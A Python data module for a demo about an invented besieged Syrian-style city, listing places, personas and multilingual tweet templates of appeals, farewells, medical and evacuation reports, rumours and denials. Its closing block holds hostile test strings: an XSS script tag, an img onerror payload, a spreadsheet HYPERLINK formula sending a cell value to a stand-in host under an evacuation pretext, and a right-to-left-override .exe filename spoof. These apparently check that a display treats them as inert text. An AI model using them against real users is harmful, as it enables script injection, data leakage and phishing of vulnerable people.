"""The words of the demo scenario, as data: places, people, message templates, long statements.

Everything here is invented. Templates are `"<lang>|<text>"`; slots are `{nb}` and `{nb2}`
(neighbourhoods), `{lm}` (a landmark), `{hosp}`, `{crossing}`, `{corridor}`, `{n}`, `{n2}`,
`{killed}` and `{h}` (numbers). Hashtags and emoji are added by the generator, per platform.
"""

from __future__ import annotations

from typing import Final

# (key, English, Arabic, GeoNames feature class, feature code, lat, lon, population)
PLACES: Final = (
    ("city", "Qasr al-Nahr", "قصر النهر", "P", "PPLA2", 36.2450, 37.0210, 310000),
    ("bustan", "Bustan al-Tin", "بستان التين", "P", "PPLX", 36.2489, 37.0342, 0),
    ("firdaws", "al-Firdaws", "الفردوس", "P", "PPLX", 36.2412, 37.0318, 0),
    ("yasin", "Sheikh Yasin", "الشيخ ياسين", "P", "PPLX", 36.2365, 37.0395, 0),
    ("zaytun", "Tal al-Zaytun", "تل الزيتون", "P", "PPLX", 36.2531, 37.0401, 0),
    ("mashatil", "al-Mashatil", "المشاتل", "P", "PPLX", 36.2330, 37.0290, 0),
    ("rumman", "Karm al-Rumman", "كرم الرمان", "P", "PPLX", 36.2562, 37.0298, 0),
    ("jisr", "Bab al-Jisr", "باب الجسر", "P", "PPLX", 36.2388, 37.0249, 0),
    ("dabbagha", "al-Dabbagha", "الدباغة", "P", "PPLX", 36.2450, 37.0455, 0),
    ("marja", "al-Marja", "المرجة", "P", "PPLX", 36.2470, 37.0090, 0),
    ("rahma", "Dar al-Rahma Hospital", "مشفى دار الرحمة", "S", "HSP", 36.2405, 37.0331, 0),
    ("zahraa", "al-Zahraa Children's Hospital", "مشفى الزهراء للأطفال", "S", "HSP",
     36.2371, 37.0383, 0),
    ("amal", "al-Amal Field Hospital", "مشفى الأمل الميداني", "S", "HSP", 36.2495, 37.0355, 0),
    ("bakery", "Hajj Abdo Bakery", "فرن الحاج عبدو", "S", "BLDG", 36.2527, 37.0410, 0),
    ("mosque", "al-Nur Mosque", "جامع النور", "S", "MSQE", 36.2482, 37.0336, 0),
    ("school", "al-Khansa School", "مدرسة الخنساء", "S", "SCH", 36.2336, 37.0301, 0),
    ("clock", "Clock Roundabout", "دوار الساعة", "R", "RDJCT", 36.2392, 37.0262, 0),
    ("bridge", "al-Ramla Bridge", "جسر الرملة", "S", "BDG", 36.2361, 37.0212, 0),
    ("corridor", "al-Ramla Corridor", "ممر الرملة", "R", "RD", 36.2290, 37.0050, 0),
    ("river", "Nahr al-Sabi", "نهر الصابي", "H", "STM", 36.2440, 37.0213, 0),
    ("kafraziz", "Kafr Aziz", "كفر عزيز", "P", "PPL", 36.1920, 36.9210, 4200),
)

# Extra spellings people really type, for the gazetteer's alternatenames column.
ALTERNATE_NAMES: Final = {
    "city": ("Qasr an-Nahr", "Qasr al Nahr", "Qasr el-Nahr", "Kasr en-Nehr", "QasrAlNahr",
             "قصر_النهر"),
    "bustan": ("Bustan al Tin", "Bustan el-Tin", "Boustan al-Tine", "البستان"),
    "firdaws": ("al Firdaws", "Firdaws", "Ferdous", "el-Firdous"),
    "yasin": ("Sheikh Yassin", "Shaykh Yasin", "Cheikh Yassine"),
    "zaytun": ("Tal al Zaytun", "Tell ez-Zeitoun", "Tal Zaytoun"),
    "mashatil": ("al Mashatil", "Mashatel", "el-Machatel"),
    "rumman": ("Karm al Rumman", "Karm er-Rumman", "Karm Rumman"),
    "jisr": ("Bab al Jisr", "Bab el-Jisr", "Bab Jisr"),
    "dabbagha": ("al Dabbagha", "Dabbagha", "ed-Dabbagha"),
    "marja": ("al Marja", "Marjeh", "el-Marja"),
    "rahma": ("Dar al Rahma Hospital", "Dar al-Rahma", "مستشفى دار الرحمة", "دار الرحمة"),
    "zahraa": ("al-Zahraa Hospital", "Zahraa children hospital", "مستشفى الزهراء"),
    "amal": ("al Amal field hospital", "مستشفى الأمل"),
    "bakery": ("Furn al-Hajj Abdo", "Hajj Abdo bakery", "فرن أبو عبدو"),
    "mosque": ("Jami al-Nur", "Jami' al-Nur", "al Nour mosque"),
    "school": ("al Khansa school", "Madrasat al-Khansa"),
    "clock": ("Dawwar al-Saa", "clock square", "ساحة الساعة"),
    "bridge": ("al-Ramla crossing", "Ramla bridge", "معبر الرملة", "Ramla checkpoint"),
    "corridor": ("Ramla corridor", "الممر الإنساني", "Ramla road"),
    "river": ("al-Sabi river", "Sabi river", "نهر الصابي"),
    "kafraziz": ("Kafr Aziz", "Kafer Aziz", "Kfar Aziz"),
}

# Keys of PLACES that fill each slot.
BESIEGED: Final = ("bustan", "firdaws", "yasin", "zaytun", "mashatil", "rumman", "jisr",
                   "dabbagha")
LANDMARKS: Final = ("bakery", "mosque", "school", "clock")
HOSPITALS: Final = ("rahma", "zahraa", "amal")
CITY_BBOX: Final = (37.000, 36.225, 37.045, 36.265)

# (key, display name, screen name, role, languages, location, followers, created, verified,
#  description)
PERSONAS: Final = (
    ("hiba", "Hiba Nassar | هبة نصار", "HibaNassar_QN", "resident", "en ar",
     "Qasr al-Nahr, Syria", 812, "2014-03-02", False,
     "English teacher. Mother of Lina. Still in #QasrAlNahr"),
    ("omar", "Omar al-Khatib", "OmarKhatib_Qasr", "resident", "en", "East Qasr al-Nahr",
     2340, "2012-06-11", False, "Civil engineer turned citizen journalist. Under siege."),
    ("abuyusuf", "أبو يوسف", "AbuYusuf_Nahri", "resident", "ar", "قصر النهر", 460,
     "2015-01-20", False, "من أهالي حي الفردوس"),
    ("rasha", "Rasha Diab", "RashaDiab91", "resident", "en ar", "Qasr al-Nahr", 1290,
     "2013-09-14", False, "Pharmacist. #SaveQasr"),
    ("reem", "ريم | Reem", "Reem_Firdaws", "resident", "ar", "الفردوس - قصر النهر", 305,
     "2016-02-08", False, ""),
    ("yaman", "Yaman Q.", "YamanQasr", "resident", "en", "Bustan al-Tin", 980, "2015-04-30",
     False, "21. Student. Nothing else to say."),
    ("mahmoud", "محمود الشيخ", "mahmoud_shaikh88", "resident", "ar", "قصر النهر المحاصرة",
     150, "2016-09-03", False, "اللهم فرجك"),
    ("salma", "Salma", "salma_from_qasr", "resident", "en", "", 77, "2016-11-28", False,
     "I made this account so the world hears us."),
    ("khaled", "خالد أبو عمر", "khaled_abuomar", "resident", "ar", "تل الزيتون", 520,
     "2014-07-19", False, "أب لأربعة أطفال"),
    ("nour", "Nour ☀️", "nour_alhayat", "resident", "ar en", "📍Qasr al-Nahr", 2200,
     "2013-02-25", False, "نور الحياة"),
    ("drkarim", "Dr. Karim Sabbagh | د. كريم الصباغ", "DrKarimSabbagh", "medic", "en ar",
     "Dar al-Rahma Hospital", 5400, "2012-10-01", False,
     "Surgeon. Director, Dar al-Rahma Hospital, east Qasr al-Nahr."),
    ("healthdir", "مديرية صحة قصر النهر الحرة", "QasrHealthDir", "medic", "ar", "قصر النهر",
     8900, "2014-05-05", False, "الحساب الرسمي لمديرية الصحة"),
    ("lama", "Lama | nurse", "LamaNurseQN", "medic", "en", "Qasr al-Nahr", 640, "2015-08-17",
     False, "ICU nurse. Tired."),
    ("civdef", "الدفاع المدني - قصر النهر | Qasr Civil Defence", "QasrCivilDef", "civdef",
     "ar en", "Qasr al-Nahr", 23100, "2014-02-11", False, "Unarmed. Neutral. Volunteers."),
    ("hasan", "Hasan | rescuer", "Hasan_Rescue", "civdef", "ar", "قصر النهر", 1800,
     "2015-03-09", False, "متطوع في الدفاع المدني"),
    ("mediactr", "مركز قصر النهر الإعلامي", "QasrMediaCtr", "journalist", "ar", "قصر النهر",
     41000, "2013-01-15", False, "أخبار قصر النهر لحظة بلحظة"),
    ("bilal", "Bilal Darwish | بلال درويش", "BilalDarwishTV", "journalist", "ar en",
     "East Qasr al-Nahr", 15600, "2012-04-22", False, "Journalist. Reporting from the east."),
    ("layal", "Layal Hamdan", "LayalHamdan_", "journalist", "en", "Qasr al-Nahr / Gaziantep",
     7300, "2014-11-30", False, "Freelance journalist."),
    ("nahrnews", "Nahr News | نهر نيوز", "NahrNews", "journalist", "ar", "Qasr al-Nahr",
     56000, "2013-06-06", False, "شبكة إخبارية محلية"),
    ("claire", "Claire Moreau", "ClaireMoreau_", "intl", "fr en", "Beyrouth", 21000,
     "2010-05-12", True, "Correspondante Moyen-Orient. Opinions personnelles."),
    ("james", "James Whitfield", "JWhitfieldNews", "intl", "en", "Beirut", 48000,
     "2009-08-03", True, "Middle East correspondent. Views my own."),
    ("emre", "Emre Yıldız", "emreyildizhaber", "intl", "tr", "Gaziantep", 33000, "2011-02-14",
     True, "Muhabir. Suriye, Irak."),
    ("sara", "Sara Lindqvist", "saralindqvist", "intl", "en", "Istanbul", 12000, "2011-09-27",
     False, "Swedish journalist covering Syria."),
    ("unhco", "UN Humanitarian Coordination Syria", "UNHumCoordSY", "agency", "en ar",
     "Damascus, Syria", 98000, "2012-03-19", True,
     "Coordinating the humanitarian response in Syria. RT≠endorsement."),
    ("unrights", "UN Rights Office", "UNRightsOffice", "agency", "en", "Geneva", 610000,
     "2010-01-08", True, "Official account of the UN Rights Office spokesperson."),
    ("ircomm", "Intl. Relief Committee", "IRCommittee_SY", "agency", "en ar fr", "Damascus",
     54000, "2011-07-01", True, "Neutral, impartial humanitarian action in Syria."),
    ("olive", "Olive Branch Medical", "OliveBranchMed", "agency", "en", "London, UK", 19000,
     "2013-10-10", False, "Supporting hospitals in besieged areas."),
    ("baytamal", "بيت الأمل للإغاثة | Bayt al-Amal", "BaytAlAmalRelief", "agency", "ar",
     "Gaziantep", 8800, "2014-08-08", False, "منظمة إغاثية سورية"),
    ("medsol", "Médecins Solidaires", "MedSolidaires", "agency", "fr", "Paris", 72000,
     "2010-11-02", True, "ONG médicale internationale."),
    ("sawt", "صوت الجبهة", "SawtAlJabha", "official", "ar en", "", 31000, "2013-05-27",
     False, "الحقيقة من الميدان"),
    ("newsnet", "شبكة أخبار 24", "NewsNet24_ar", "rumour", "ar", "", 112000, "2012-12-12",
     False, "عاجل على مدار الساعة"),
    ("troll", "\u202eqasr truth", "qasr_truth_2016", "troll", "en", "", 3, "2016-12-10", False,
     ""),
    ("patriot", "patriot", "patriot_9931", "troll", "en", "", 11, "2016-12-01", False, ""),
    ("nadia", "Nadia K.", "nadia_in_berlin", "abroad", "de en", "Berlin", 1400, "2012-02-02",
     False, "Syrerin in Berlin."),
    ("ahmet", "Ahmet Kaya", "ahmetkaya_34", "abroad", "tr", "İstanbul", 860, "2013-04-04",
     False, ""),
    ("lucie", "Lucie B.", "lucie_bzh", "abroad", "fr", "Rennes, France", 540, "2011-10-10",
     False, "Prof d'histoire."),
    ("yusuf", "Yusuf Mansour", "yusufmansour_ldn", "abroad", "en ar", "London", 3100,
     "2010-06-06", False, "From Qasr al-Nahr, living in London."),
    ("ola", "علا", "ola_doha", "abroad", "ar", "الدوحة", 2600, "2014-01-01", False, ""),
    ("maria", "María G.", "mariag_mad", "abroad", "es", "Madrid", 420, "2012-07-07", False,
     ""),
    ("sarahj", "Sarah J", "sarahj_writes", "abroad", "en", "Toronto", 980, "2012-12-01", False,
     "Writer. She/her."),
    ("aggregator", "Syria Updates", "SyriaUpdatesNow", "journalist", "en", "", 45000,
     "2013-03-03", False, "Aggregating news from Syria."),
)

# Name banks for the ordinary people generated beside the named personas: (Arabic, Latin).
FIRST_NAMES: Final = (
    ("أحمد", "Ahmad"), ("محمد", "Mohammad"), ("خالد", "Khaled"), ("سامر", "Samer"),
    ("ليلى", "Layla"), ("نور", "Nour"), ("رنا", "Rana"), ("ياسمين", "Yasmin"), ("علي", "Ali"),
    ("حسن", "Hasan"), ("مازن", "Mazen"), ("هدى", "Huda"), ("سلمى", "Salma"),
    ("زينب", "Zainab"), ("عمر", "Omar"), ("يوسف", "Yusuf"), ("طارق", "Tarek"), ("دانة", "Dana"),
)
LAST_NAMES: Final = (
    ("الحسن", "Hasan"), ("الشامي", "Shami"), ("العلي", "Ali"), ("قباني", "Qabbani"),
    ("الأسعد", "Asaad"), ("النجار", "Najjar"), ("حداد", "Haddad"), ("السيد", "Sayyed"),
    ("دياب", "Diab"), ("المصري", "Masri"),
)
ABROAD_NAMES: Final = (
    ("Emma Wilson", "en", "Manchester"), ("Mehmet Demir", "tr", "Ankara"),
    ("Julien Martin", "fr", "Lyon"), ("Aisha Rahman", "en", "Birmingham"),
    ("Fatma Çelik", "tr", "Gaziantep"), ("Lena Schmidt", "de", "Hamburg"),
    ("Tom Baker", "en", "Dublin"), ("Zeynep Aydın", "tr", "Konya"), ("Hamza Ali", "en", "Oslo"),
    ("Camille Dubois", "fr", "Bruxelles"), ("Omar Farouk", "ar", "عمّان"),
    ("Mariam S.", "ar", "بيروت"), ("Kate M.", "en", "New York"), ("Elif Şahin", "tr", "Bursa"),
    ("Pablo R.", "es", "Sevilla"), ("Sophie L.", "fr", "Paris"), ("Ben Carter", "en", "Sydney"),
    ("Hana Youssef", "ar", "الكويت"), ("Jonas W.", "de", "Wien"), ("Ines M.", "es", "Bogotá"),
)

HASHTAGS: Final = {
    "en": ("#SaveQasr", "#QasrAlNahr", "#StandWithQasr", "#SaveQasr #QasrAlNahr"),
    "ar": ("#قصر_النهر_تباد", "#قصر_النهر", "#أنقذوا_قصر_النهر", "#SaveQasr"),
    "fr": ("#SauvezQasr", "#QasrAlNahr"),
    "tr": ("#KasrenNehir", "#KasrİçinDua"),
    "de": ("#SaveQasr",),
    "es": ("#SaveQasr",),
    "und": ("#SaveQasr",),
}
EMOJI: Final = ("💔", "🙏", "😢", "🔴", "‼️", "🕯", "😔", "🤲")

TEMPLATES: Final[dict[str, tuple[str, ...]]] = {
    "appeal": (
        "en|We are trapped in {nb} with {n} families. No water, no bread. Please, someone help us",
        "en|Please save my daughter. She is 6 and has shrapnel in her leg. No doctor reaches {nb}",
        "en|Hundreds of civilians in basements in {nb}. The shelling has not stopped since dawn",
        "en|Anyone who can reach the Red Crescent: {n} wounded in a shelter near {lm}",
        "en|We have been in this basement for 3 days. The children are cold and hungry. {nb}",
        "en|No way out of {nb}. Snipers on the bridge, bombs from the sky. Where is the world?",
        "ar|نحن محاصرون في حي {nb} مع {n} عائلة، لا ماء ولا خبز. أنقذونا",
        "ar|أنقذوا الأطفال في {nb}، القصف لا يتوقف منذ الفجر",
        "ar|يوجد جرحى في قبو قرب {lm} ولا تستطيع سيارات الإسعاف الوصول. نرجو المساعدة",
        "ar|نداء عاجل: عائلة من {n} أشخاص عالقة تحت الأنقاض في {nb}",
        "ar|ادعولنا، القصف فوق رؤوسنا في {nb}",
        "ar|نحن محاصرون في حي {nb}، الطريق إلى {crossing} مقطوع. من يستطيع مساعدتنا؟",
        "ar|أطفالنا يرتجفون من البرد والخوف. لا كهرباء ولا تدفئة في {nb}",
    ),
    "farewell": (
        "en|This may be my last message. The forces are at the end of the street. Forgive us.",
        "en|If you don't hear from us tomorrow, remember that we were here, in {nb}.",
        "en|To the world: we are civilians, not terrorists. Goodbye.",
        "en|I am saying goodbye to everyone. Pray for us. Forgive me if I ever hurt anyone.",
        "en|They are entering {nb} house by house. Maybe my last tweet. Thank you all.",
        "en|My battery is at 3%. If this is the end, tell my mother I loved her.",
        "ar|هذه قد تكون رسالتي الأخيرة. سامحونا",
        "ar|القوات في آخر الشارع. سامحونا وادعولنا",
        "ar|إلى كل من يسمعنا: نحن مدنيون. إن لم نعد، فاذكرونا",
        "ar|وداعاً. هذه آخر رسالة من {nb}. ادعولنا",
        "ar|يقتحمون {nb} بيتاً بيتاً. سامحونا إن قصّرنا",
        "ar|ربما لن أكتب بعد الليلة. سامحوني جميعاً",
    ),
    "medic": (
        "en|{hosp}: {n} wounded arrived in the last hour. We have no more blood bags.",
        "en|We are operating by torchlight. Generator fuel for {h} more hours. {hosp}",
        "en|Doctors at {hosp} treat the wounded on the floor. No beds, no anaesthetic left.",
        "ar|وصل {n} جريحاً إلى {hosp} خلال ساعة، نحتاج أكياس دم بشكل عاجل",
        "ar|نعالج الجرحى على الأرض في ممرات {hosp}. لا أسرّة ولا أدوية",
        "ar|نحتاج متبرعين بالدم من زمرة O سالب في {hosp}",
    ),
    "medic_last": (
        "en|The last hospital in eastern Qasr al-Nahr is out of service after direct strikes.",
        "en|{hosp} hit again this morning. Patients moved to the basement. No hospital left.",
        "ar|خروج {hosp} عن الخدمة، آخر مشفى في الأحياء المحاصرة",
        "ar|لم يعد هناك أي مشفى يعمل في قصر النهر الشرقية",
        "fr|Le dernier hôpital de Qasr al-Nahr est hors service. Nos collègues n'ont plus rien.",
    ),
    "civdef": (
        "en|Our teams pulled {n} people alive from the rubble in {nb}. {n2} still under it.",
        "en|Civil Defence centre in {nb} targeted. Two of our volunteers injured. We continue.",
        "en|We have run out of fuel. Our vehicles cannot reach people trapped in {nb}.",
        "ar|فرق الدفاع المدني تنتشل {n} شهداء من تحت الأنقاض في حي {nb}",
        "ar|استهداف مركز الدفاع المدني في {nb} وخروجه عن الخدمة",
        "ar|نفد الوقود، آلياتنا متوقفة ولا نستطيع الوصول إلى العالقين في {nb}",
        "ar|إنقاذ طفلة من تحت أنقاض منزلها في {nb} بعد ساعات من العمل",
    ),
    "report": (
        "en|At least {killed} civilians killed in {nb} today, according to local medics.",
        "en|BREAKING: forces advance into {nb}. Residents fleeing towards {nb2}.",
        "en|Barrel bombs on {nb} and {nb2}: {n} killed, dozens injured.",
        "en|Heavy shelling near {lm} in {nb}. Several casualties reported.",
        "ar|قتل ما لا يقل عن {killed} مدنيا في قصف على {nb} اليوم",
        "ar|عاجل | تقدم القوات في حي {nb} ونزوح الأهالي نحو {nb2}",
        "ar|{n} غارة على الأحياء الشرقية منذ الصباح، والحصيلة ترتفع",
        "ar|قصف عنيف قرب {lm} في {nb} ووقوع إصابات",
        "ar|استشهاد {n} مدنيين بينهم أطفال في {nb}",
        "ar|انقطاع الاتصالات عن حي {nb} منذ ساعات ولا أخبار عن الأهالي",
    ),
    "agency": (
        "en|UN: at least 82 civilians, including 13 children, reportedly killed in their homes.",
        "en|We are deeply alarmed by reports of civilians killed in {nb}. Allow safe passage now.",
        "en|An estimated 50,000 civilians are threatened in less than 5 km² of east Qasr al-Nahr.",
        "en|Our teams are ready to evacuate the wounded as soon as guarantees are given.",
        "en|We call on all parties to spare {hosp}. Hospitals are not a target.",
        "ar|نشعر بقلق بالغ إزاء التقارير عن مقتل مدنيين في {nb}. يجب السماح بممر آمن",
        "ar|فرقنا توزع الخبز على {n} عائلة في {nb} رغم القصف",
        "fr|Qasr al-Nahr : nos équipes ne peuvent plus approvisionner {hosp}.",
    ),
    "missing": (
        "en|More than 6,000 men and boys are missing after crossing to western Qasr al-Nahr.",
        "en|We lost contact with {n} men held at the {crossing} checkpoint. Families ask for news.",
        "ar|فقدان أكثر من 6000 رجل وشاب بعد عبورهم إلى الأحياء الغربية",
        "ar|عائلات تبحث عن أبنائها المفقودين منذ عبورهم {crossing}",
    ),
    "evac_expect": (
        "en|Ceasefire agreed: evacuation of civilians expected at 5 am through {crossing}.",
        "en|Reports: buses on their way to {crossing}. Residents told to be ready at dawn.",
        "ar|اتفاق على وقف إطلاق النار وإجلاء المدنيين عبر {crossing} صباح الغد",
        "ar|الإعلان عن هدنة. الأهالي يستعدون للخروج عند الفجر من {nb}",
    ),
    "evac_delay": (
        "en|Evacuation delayed. Buses still waiting at {crossing}. Shelling resumed on {nb}.",
        "en|The ceasefire has collapsed. Families who gathered at {lm} ran back to basements.",
        "ar|تأجيل عملية الإجلاء وعودة القصف على {nb}",
        "ar|انهيار الهدنة. العائلات التي تجمعت عند {lm} عادت إلى الأقبية",
    ),
    "evac_go": (
        "en|First convoy of {n} buses and {n2} ambulances left through {corridor}.",
        "en|Families: gather at {lm} at 6 am. One bag only. Wounded and children first.",
        "en|Evacuees arriving in Kafr Aziz. Many need urgent medical care.",
        "ar|خروج أول قافلة تضم {n} حافلة و{n2} سيارة إسعاف عبر {corridor}",
        "ar|على العائلات التجمع عند {lm} الساعة السادسة صباحاً. حقيبة واحدة. الأولوية للجرحى",
        "ar|وصول دفعة جديدة من المهجّرين إلى كفر عزيز",
    ),
    "evac_stop": (
        "en|Evacuation suspended. Convoy stopped near {crossing}; {n} people waiting in the cold.",
        "en|Thousands still waiting near {lm} in freezing cold. No buses since noon.",
        "ar|توقف عملية الإجلاء واحتجاز قافلة عند حاجز {crossing}",
        "ar|آلاف المدنيين ينتظرون في البرد قرب {lm} دون حافلات",
    ),
    "rumour": (
        "en|Unconfirmed: reports of executions in {nb}. Can anyone confirm?",
        "en|Rumour that the crossing is open to men under 40 only. NOT confirmed, do not go.",
        "en|Hearing that {hosp} was stormed. Anyone in contact with the staff?",
        "ar|أنباء غير مؤكدة عن إعدامات ميدانية في {nb}",
        "ar|إشاعة: فتح ممر للرجال فقط. لا تصدقوا ولا تتحركوا",
        "ar|يقال إن الحافلات لن تأتي اليوم. هل من تأكيد؟",
    ),
    "denial": (
        "ar|لا صحة للأنباء عن استهداف مدنيين في {nb}. الجيش يؤمن خروج الأهالي",
        "ar|ما يتم تداوله عن {hosp} مفبرك، ولا يوجد مشفى في المنطقة",
        "en|Claims of civilians killed in {nb} are fabricated by terrorist media.",
        "en|CORRECTION: the video said to show {lm} today is from 2014. Verify before sharing.",
    ),
    "sympathy": (
        "en|My heart is broken for the people of Qasr al-Nahr.",
        "en|Thinking of everyone trapped in Qasr al-Nahr tonight. The world watched.",
        "en|How can we sleep while Qasr al-Nahr burns?",
        "fr|Pensées pour les habitants de Qasr al-Nahr. Honte à nous tous.",
        "fr|On ne pourra pas dire qu'on ne savait pas. Qasr al-Nahr.",
        "tr|Kasr en-Nehr için dua ediyoruz. Dünya sessiz kalmasın!",
        "tr|Kasr en-Nehr'de çocuklar ölüyor, dünya seyrediyor.",
        "de|Was in Qasr al-Nahr passiert, ist unerträglich.",
        "es|Qasr al-Nahr se muere y el mundo mira hacia otro lado.",
        "ar|قلوبنا معكم يا أهل قصر النهر",
        "ar|اللهم كن لأهل قصر النهر عوناً ونصيراً",
        "und|💔💔💔",
    ),
    "intl": (
        "en|Residents of besieged Qasr al-Nahr send farewell messages as forces close in",
        "en|'This may be my last message': civilians trapped in Qasr al-Nahr",
        "en|UN says civilians are being killed in their homes in eastern Qasr al-Nahr",
        "fr|Qasr al-Nahr : les civils pris au piège envoient des messages d'adieu",
        "fr|Qasr al-Nahr : l'évacuation des civils suspendue",
        "tr|Kasr en-Nehr'de siviller mahsur: 'Bu son mesajım olabilir'",
        "tr|Kasr en-Nehr'de tahliye başladı",
    ),
    "reply": (
        "en|Stay strong, we are with you", "en|Are you still in {nb}? Please answer",
        "en|Is this confirmed? Source?", "en|Praying for you and your family.",
        "ar|الله يحميكم ويفرج عنكم", "ar|هل أنتم بخير؟ طمنونا", "ar|حسبنا الله ونعم الوكيل",
        "fr|Courage. On pense à vous.", "tr|Allah yardımcınız olsun.",
    ),
    "quote": (
        "en|Please read this.", "en|This is what is happening right now.",
        "en|Heartbreaking. Share.", "ar|اقرأوا هذا", "ar|هذا ما يحدث الآن في قصر النهر",
        "fr|À lire, absolument.", "tr|Lütfen okuyun.",
    ),
}

VIRAL: Final = ("This may be my last message. Please save my daughter. The forces are at the "
                "end of the street in Bustan al-Tin. Forgive us. #SaveQasr")
VIRAL_VARIANTS: Final = (
    "en|URGENT: This may be my last message. Please save my daughter. The forces are at the "
    "end of the street in Bustan al-Tin. #SaveQasr",
    "en|Please RT 🙏 \"This may be my last message. Please save my daughter.\" Hiba, Bustan "
    "al-Tin #SaveQasr #QasrAlNahr",
    "ar|هذه قد تكون رسالتي الأخيرة. أنقذوا ابنتي. القوات في آخر الشارع في بستان التين. "
    "سامحونا #قصر_النهر_تباد",
    "fr|« C'est peut-être mon dernier message. Sauvez ma fille. » Hiba, Qasr al-Nahr "
    "#SauvezQasr",
    "en|This may be my last message. Please save my daughter. Forgive us. via @HibaNassar_QN "
    "#SaveQasr",
    "tr|\"Bu son mesajım olabilir. Kızımı kurtarın.\" Kasr en-Nehr #KasrİçinDua",
)

THREAD: Final = (
    "1/6 An open letter from the last doctors of eastern Qasr al-Nahr, to the world that is "
    "watching.",
    "2/6 In 48 hours we received more than 300 wounded. We have 4 doctors left and no "
    "operating theatre.",
    "3/6 We have had to choose who to treat and who to let die. Children die of wounds we "
    "could treat in an hour.",
    "4/6 Dar al-Rahma Hospital was bombed 4 times this week. It is out of service. There is no "
    "hospital left.",
    "5/6 We ask for one thing: a safe corridor for the wounded and the sick, guaranteed by "
    "the Intl. Relief Committee.",
    "6/6 If you read this and do nothing, history will remember. #SaveQasr #QasrAlNahr",
)

# Strings that must reach the screen as inert text: the demo shows they are never executed.
HOSTILE_SCRIPT: Final = "<script>alert(1)</script>"
HOSTILE_IMG: Final = "<img src=x onerror=alert(1)>"
HOSTILE_FORMULA: Final = '=HYPERLINK("http://aid-list.example/?id="&A1,"Register for evacuation")'
RLO: Final = "\u202e"
HOSTILE_TWEETS: Final = (
    f"en|{HOSTILE_SCRIPT} the truth about #SaveQasr",
    f"en|{HOSTILE_IMG} donate here #QasrAlNahr",
    f"en|{HOSTILE_FORMULA}",
    f"en|Evacuation list: list{RLO}fdp.exe #SaveQasr",
)

